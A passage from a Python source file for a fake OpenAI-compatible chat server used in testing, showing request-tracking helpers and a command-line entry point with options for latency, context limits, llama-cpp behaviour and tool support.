        """Requests received so far (a copy)."""
        with self._lock:
            return list(self._requests)

    @property
    def peak_in_flight(self) -> int:
        """The most POST requests this fake has been answering at once (since start/reset)."""
        with self._lock:
            return self._peak

    def _enter(self) -> None:
        with self._lock:
            self._in_flight += 1
            self._peak = max(self._peak, self._in_flight)

    def _leave(self) -> None:
        with self._lock:
            self._in_flight -= 1

    def _record(self, request: RecordedRequest) -> None:
        with self._lock:
            self._requests.append(request)

    def _next_step(self) -> tuple[Step, threading.Event]:
        with self._lock:
            step = self._steps.popleft() if self._steps else self.default
            return step, self._release


def main(argv: list[str] | None = None) -> int:
    """Run the fake standalone: print ``base_url`` then serve until killed."""
    parser = argparse.ArgumentParser(prog="python -m compactor.testing.fake_openai")
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument(
        "--latency",
        type=float,
        default=0.0,
        help="seconds from each request's arrival to its answer",
    )
    parser.add_argument("--script", help="JSON file: a list of steps used in order")
    parser.add_argument("--default", help="reply text used when the script is exhausted")
    parser.add_argument(
        "--max-context-tokens",
        type=int,
        default=None,
        metavar="N",
        help="refuse requests above N estimated tokens with OpenAI's context_length_exceeded 400",
    )
    parser.add_argument(
        "--flavor",
        choices=["openai", "llama-cpp"],
        default="openai",
        help="llama-cpp: validate messages, refuse and cut replies as llama-cpp-python's server",
    )
    parser.add_argument(
        "--no-tools",
        action="store_true",
        help="refuse tool roles and tool_calls (a chat server without tools)",
    )
    parser.add_argument(
        "--token-scale",
        type=float,
        default=1.0,
        help="tokens per estimated token (bytes // 4) when counting a request",
    )
    args = parser.parse_args(argv)
    default = reply(args.default) if args.default is not None else None
    fake = FakeOpenAI(
        default=default,
        latency=args.latency,
        host=args.host,
        port=args.port,
        max_context_tokens=args.max_context_tokens,
        flavor=args.flavor,
        tools=not args.no_tools,
        token_scale=args.token_scale,
    )
    if args.script:
        with open(args.script, encoding="utf-8") as fh:
            script = json.load(fh)
        if not isinstance(script, list):
            parser.error("--script must hold a JSON list of steps")
        fake.enqueue(*(step_from_dict(s) for s in script))
    fake.start()
    sys.stdout.write(fake.base_url + "\n")
    sys.stdout.flush()
    try:
        threading.Event().wait()
    except KeyboardInterrupt:
        pass
    finally:
        fake.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
